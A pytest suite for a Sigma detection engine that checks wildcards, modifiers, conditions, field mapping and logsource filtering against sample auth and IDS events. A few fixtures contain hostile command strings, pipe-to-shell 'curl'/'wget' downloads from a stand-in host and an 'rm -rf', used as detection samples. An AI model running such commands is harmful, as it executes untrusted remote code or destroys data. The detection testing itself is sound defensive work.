"""Sigma detection semantics: values, modifiers, conditions, field map, logsources."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from sigma.types import SpecialChars

from events.models import SecurityEvent
from processors.security.sigma import FieldMap, SigmaEngine, load_texts
from processors.security.sigma.fieldmap import FIELDMAP_FILE
from processors.security.sigma.matcher import _normalise, _text_matcher


def _test_fieldmap() -> FieldMap:
    # The shipped map plus a logsource that admits every event, so matcher tests need
    # not dress their events up for a product.
    data = yaml.safe_load(FIELDMAP_FILE.read_text(encoding="utf-8"))
    data["logsources"]["category"]["test"] = None
    return FieldMap.from_dict(data, "test fieldmap")


FIELDMAP = _test_fieldmap()


def engine(*rules: dict[str, Any]) -> SigmaEngine:
    texts = [(f"rule{i}.yml", yaml.safe_dump(rule)) for i, rule in enumerate(rules)]
    ruleset = load_texts(texts, FIELDMAP)
    assert not ruleset.rejected, [str(r) for r in ruleset.rejected]
    return SigmaEngine(ruleset, FIELDMAP)


def rule(detection: dict[str, Any], logsource: dict[str, str] | None = None) -> dict[str, Any]:
    return {
        "title": "test rule",
        "logsource": logsource or {"category": "test"},
        "detection": detection,
    }


def hits(detection: dict[str, Any], event: Any, logsource: dict[str, str] | None = None) -> bool:
    return bool(engine(rule(detection, logsource)).matching_rules(event))


def sel(condition: str = "selection", **selections: Any) -> dict[str, Any]:
    return {**selections, "condition": condition}


SSH_FAIL = {
    "@timestamp": "2026-11-24T08:00:00+07:00",
    "message": "Failed password for root from 203.0.113.7 port 49286 ssh2",
    "event": {
        "dataset": "system.auth",
        "module": "system",
        "category": ["authentication"],
        "action": "ssh_login",
        "outcome": "failure",
    },
    "source": {"ip": "203.0.113.7", "port": 49286},
    "user": {"name": "root"},
    "host": {"name": "kg-dvc-web01"},
    "process": {"name": "sshd", "pid": 1234},
}


# ---- selections and values ----------------------------------------------------------


def test_map_is_and_of_fields() -> None:
    both = {"user.name": "root", "event.outcome": "failure"}
    assert hits(sel(selection=both), SSH_FAIL)
    assert not hits(sel(selection={**both, "event.outcome": "success"}), SSH_FAIL)


def test_list_of_maps_is_or() -> None:
    either = [{"user.name": "admin"}, {"source.port": 49286}]
    assert hits(sel(selection=either), SSH_FAIL)
    assert not hits(sel(selection=[{"user.name": "admin"}, {"source.port": 1}]), SSH_FAIL)


def test_value_list_is_or() -> None:
    assert hits(sel(selection={"user.name": ["admin", "root", "oracle"]}), SSH_FAIL)
    assert not hits(sel(selection={"user.name": ["admin", "oracle"]}), SSH_FAIL)


def test_plain_values_are_case_insensitive() -> None:
    assert hits(sel(selection={"user.name": "ROOT", "event.dataset": "System.Auth"}), SSH_FAIL)


def test_null_matches_absent_or_null_field() -> None:
    assert hits(sel(selection={"user.domain": None}), SSH_FAIL)
    assert hits(sel(selection={"user.domain": None}), {**SSH_FAIL, "user": {"domain": None}})
    assert not hits(sel(selection={"user.name": None}), SSH_FAIL)


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        ("Failed password*", True),
        ("*ssh2", True),
        ("*from 203.0.113.? port*", True),
        ("failed*ROOT*49286*", True),
        ("*from 198.51.*", False),
        ("Failed?password*", True),
        ("Failed??password*", False),
        ("*", True),
        ("Failed password for root from 203.0.113.7 port 49286 ssh2", True),
        ("Failed password", False),
    ],
)
def test_wildcards(pattern: str, expected: bool) -> None:
    assert hits(sel(selection={"message": pattern}), SSH_FAIL) is expected


def test_escaped_wildcard_is_literal() -> None:
    event = {"process": {"command_line": "rm -rf /tmp/*"}}
    assert hits(sel(selection={"process.command_line": r"rm -rf /tmp/\*"}), event)
    assert not hits(
        sel(selection={"process.command_line": r"rm -rf /tmp/\*"}),
        {"process": {"command_line": "rm -rf /tmp/x"}},
    )


def test_contains_startswith_endswith() -> None:
    assert hits(sel(selection={"message|contains": "PASSWORD FOR"}), SSH_FAIL)
    assert hits(sel(selection={"message|startswith": "failed"}), SSH_FAIL)
    assert hits(sel(selection={"message|endswith": "SSH2"}), SSH_FAIL)
    assert not hits(sel(selection={"message|startswith": "password"}), SSH_FAIL)
    assert not hits(sel(selection={"message|endswith": "port"}), SSH_FAIL)


def test_contains_all_needs_every_value() -> None:
    assert hits(sel(selection={"message|contains|all": ["root", "ssh2"]}), SSH_FAIL)
    assert not hits(sel(selection={"message|contains|all": ["root", "telnet"]}), SSH_FAIL)
    assert hits(sel(selection={"message|contains": ["root", "telnet"]}), SSH_FAIL)


def test_cased_modifier() -> None:
    assert hits(sel(selection={"user.name|cased": "root"}), SSH_FAIL)
    assert not hits(sel(selection={"user.name|cased": "Root"}), SSH_FAIL)


def test_re_is_case_sensitive_unanchored_and_takes_flags() -> None:
    assert hits(sel(selection={"message|re": r"port \d{5} ssh2$"}), SSH_FAIL)
    assert not hits(sel(selection={"message|re": "FAILED"}), SSH_FAIL)
    assert hits(sel(selection={"message|re|i": "FAILED"}), SSH_FAIL)
    assert hits(sel(selection={"source.port|re": "^492"}), SSH_FAIL)  # numbers read as text


def test_cidr_ipv4_and_ipv6() -> None:
    assert hits(sel(selection={"source.ip|cidr": "203.0.113.0/24"}), SSH_FAIL)
    assert not hits(sel(selection={"source.ip|cidr": "10.0.0.0/8"}), SSH_FAIL)
    v6 = {"source": {"ip": "2001:db8::7"}}
    assert hits(sel(selection={"source.ip|cidr": ["10.0.0.0/8", "2001:db8::/32"]}), v6)
    assert not hits(sel(selection={"source.ip|cidr": "10.0.0.0/8"}), {"source": {"ip": "kg"}})


def test_exists() -> None:
    assert hits(sel(selection={"source.ip|exists": True}), SSH_FAIL)
    assert hits(sel(selection={"destination.ip|exists": False}), SSH_FAIL)
    assert not hits(sel(selection={"destination.ip|exists": True}), SSH_FAIL)


@pytest.mark.parametrize(
    ("modifier", "bound", "expected"),
    [
        ("gt", 49285, True),
        ("gt", 49286, False),
        ("gte", 49286, True),
        ("lt", 49287, True),
        ("lte", 49285, False),
    ],
)
def test_numeric_comparisons(modifier: str, bound: int, expected: bool) -> None:
    assert hits(sel(selection={f"source.port|{modifier}": bound}), SSH_FAIL) is expected
    as_text = {"source": {"port": "49286"}}  # Winlogbeat writes numbers as strings
    assert hits(sel(selection={f"source.port|{modifier}": bound}), as_text) is expected


def test_numbers_and_numeric_strings_match_both_ways() -> None:
    winlog = {"winlog": {"event_id": "4625", "event_data": {"LogonType": "3"}}}
    assert hits(sel(selection={"EventID": 4625, "LogonType": [3, 10]}), winlog)
    assert hits(sel(selection={"source.port": "49286"}), SSH_FAIL)
    assert not hits(sel(selection={"EventID": 4624}), winlog)


def test_list_valued_event_field_matches_any_element() -> None:
    event = {"event": {"category": ["network", "intrusion_detection"]}}
    assert hits(sel(selection={"event.category": "intrusion_detection"}), event)
    assert not hits(sel(selection={"event.category": "malware"}), event)


def test_booleans() -> None:
    event = {"tls": {"established": True}}
    assert hits(sel(selection={"tls.established": True}), event)
    assert not hits(sel(selection={"tls.established": False}), event)


# ---- conditions ---------------------------------------------------------------------

SELECTIONS = {
    "selection_user": {"user.name": "root"},
    "selection_fail": {"event.outcome": "failure"},
    "selection_other": {"user.name": "admin"},
    "filter_internal": {"source.ip|cidr": "10.0.0.0/8"},
}


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("selection_user and selection_fail", True),
        ("selection_user and selection_other", False),
        ("selection_other or selection_fail", True),
        ("not selection_other", True),
        ("selection_user and not filter_internal", True),
        ("not (selection_user or selection_other)", False),
        ("(selection_other or selection_user) and selection_fail", True),
        ("selection_other or selection_user and selection_fail", True),
        ("1 of selection_*", True),
        ("all of selection_*", False),
        ("all of selection_u* and all of selection_f*", True),
        ("1 of them", True),
        ("all of them", False),
        ("1 of selection_* and not 1 of filter_*", True),
    ],
)
def test_condition_forms(condition: str, expected: bool) -> None:
    assert hits({**SELECTIONS, "condition": condition}, SSH_FAIL) is expected


def test_several_conditions_are_alternatives() -> None:
    detection = {**SELECTIONS, "condition": ["selection_other", "selection_fail"]}
    assert hits(detection, SSH_FAIL)


def test_keywords_search_the_message_case_insensitively() -> None:
    assert hits({"keywords": ["PASSWORD FOR ROOT", "segfault"], "condition": "keywords"}, SSH_FAIL)
    assert not hits({"keywords": ["segfault"], "condition": "keywords"}, SSH_FAIL)
    both = {"keywords": {"|all": ["root", "ssh2"]}, "condition": "keywords"}
    assert hits(both, SSH_FAIL)


# ---- field map and event shapes -----------------------------------------------------

WINLOGBEAT_4625 = {
    "@timestamp": "2026-11-24T01:00:00Z",
    "event": {"code": "4625", "provider": "Microsoft-Windows-Security-Auditing"},
    "winlog": {
        "channel": "Security",
        "event_id": "4625",
        "computer_name": "KH-EGOV-DC01.khanhhoa.local",
        "event_data": {
            "TargetUserName": "Administrator",
            "TargetDomainName": "KHANHHOA",
            "IpAddress": "198.51.100.23",
            "LogonType": "10",
            "Status": "0xc000006d",
            "SubStatus": "0xc000006a",
        },
    },
    "user": {"name": "Administrator"},
    "source": {"ip": "198.51.100.23"},
}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("TargetUserName", "administrator"),
        ("IpAddress", "198.51.100.23"),
        ("EventID", 4625),
        ("LogonType", 10),
        ("SubStatus", "0xC000006A"),
        ("ComputerName", "KH-EGOV-DC01*"),
        ("Channel", "security"),
        ("SourceIp", "198.51.100.23"),
        ("src_ip", "198.51.100.23"),
    ],
)
def test_sigma_names_map_to_ecs(field: str, value: Any) -> None:
    assert hits(sel(selection={field: value}), WINLOGBEAT_4625)


def test_mapped_field_falls_back_to_later_paths() -> None:
    raw_only = {"winlog": {"event_data": {"TargetUserName": "svc_backup"}}}
    assert hits(sel(selection={"TargetUserName": "svc_backup"}), raw_only)
    only_code = {"event": {"code": 4625}}
    assert hits(sel(selection={"EventID": 4625}), only_code)


def test_network_and_process_names() -> None:
    flow = {"source": {"ip": "203.0.113.7"}, "destination": {"ip": "10.0.0.5", "port": 3389}}
    assert hits(
        sel(selection={"DestinationPort": 3389, "dst_port": 3389, "dst_ip": "10.0.0.5"}), flow
    )
    process = {"process": {"executable": "/usr/bin/curl", "command_line": "curl http://x | sh"}}
    assert hits(sel(selection={"Image|endswith": "/curl", "CommandLine|contains": "| sh"}), process)
    sudo = {"system": {"auth": {"sudo": {"command": "/bin/sh -c 'wget http://x -O-|sh'"}}}}
    assert hits(sel(selection={"CommandLine|contains": "wget"}), sudo)


def test_flattened_keys_are_read() -> None:
    flat = {"source.ip": "203.0.113.7", "event": {"dataset": "system.auth"}}
    assert hits(sel(selection={"source.ip": "203.0.113.7", "event.dataset": "system.auth"}), flat)
    half_flat = {"system": {"auth.ssh.event": "Failed"}}
    assert hits(sel(selection={"system.auth.ssh.event": "Failed"}), half_flat)


def test_security_event_columns_back_up_the_ecs_document() -> None:
    event = SecurityEvent(
        time=datetime(2026, 11, 24, 1, 0, tzinfo=UTC),
        event_id="e1",
        dataset="system.auth",
        category=("authentication",),
        outcome="failure",
        source_ip="203.0.113.7",
        user_name="root",
    )
    detection = sel(
        selection={
            "event.dataset": "system.auth",
            "event.category": "authentication",
            "source.ip|cidr": "203.0.113.0/24",
            "user.name": "root",
        }
    )
    assert hits(detection, event)
    assert hits(detection, event.model_dump())  # a dumped event keeps its columns too
    assert not hits(sel(selection={"destination.ip|exists": True}), event)


# ---- logsources ---------------------------------------------------------------------

LINUX_SSHD = {"product": "linux", "service": "sshd"}
WINDOWS_SECURITY = {"product": "windows", "service": "security"}
ANYTHING = {"condition": "selection", "selection": {"@timestamp|exists": True}}


def test_logsource_admits_only_its_events() -> None:
    assert hits(ANYTHING, SSH_FAIL, LINUX_SSHD)
    assert not hits(ANYTHING, WINLOGBEAT_4625, LINUX_SSHD)
    assert hits(ANYTHING, WINLOGBEAT_4625, WINDOWS_SECURITY)
    assert not hits(ANYTHING, SSH_FAIL, WINDOWS_SECURITY)
    sudo = {**SSH_FAIL, "process": {"name": "sudo"}}
    assert not hits(ANYTHING, sudo, LINUX_SSHD)  # same dataset, other program


def test_firewall_category_takes_parsed_and_kernel_lines() -> None:
    parsed = {"@timestamp": "2026-11-24T01:00:00Z", "event": {"dataset": "system.firewall"}}
    kernel = {
        "@timestamp": "2026-11-24T01:00:00Z",
        "event": {"dataset": "system.syslog"},
        "process": {"name": "kernel"},
    }
    cron = {**kernel, "process": {"name": "CRON"}}
    firewall = {"category": "firewall"}
    assert hits(ANYTHING, parsed, firewall)
    assert hits(ANYTHING, kernel, firewall)
    assert not hits(ANYTHING, cron, firewall)


def test_product_service_and_category_are_anded() -> None:
    suricata_alert = {
        "@timestamp": "x",
        "event": {"module": "suricata", "category": ["intrusion_detection"]},
    }
    suricata_flow = {"@timestamp": "x", "event": {"module": "suricata", "category": ["network"]}}
    ids = {"product": "suricata", "category": "ids"}
    assert hits(ANYTHING, suricata_alert, ids)
    assert not hits(ANYTHING, suricata_flow, ids)


# ---- wildcard matcher against a regular-expression reference ------------------------


def _reference(pattern: str, text: str) -> bool:
    regex = "".join(".*" if c == "*" else "." if c == "?" else re.escape(c) for c in pattern)
    return re.fullmatch(regex, text, re.DOTALL) is not None


def _parts(pattern: str) -> list[Any]:
    chars = {"*": SpecialChars.WILDCARD_MULTI, "?": SpecialChars.WILDCARD_SINGLE}
    return _normalise([chars.get(c, c) for c in pattern])


@given(
    st.text(alphabet="ab*?", max_size=8),
    st.text(alphabet="abc", max_size=12),
)
def test_glob_matcher_agrees_with_regex(pattern: str, text: str) -> None:
    assert _text_matcher(_parts(pattern), cased=True)(text) is _reference(pattern, text)
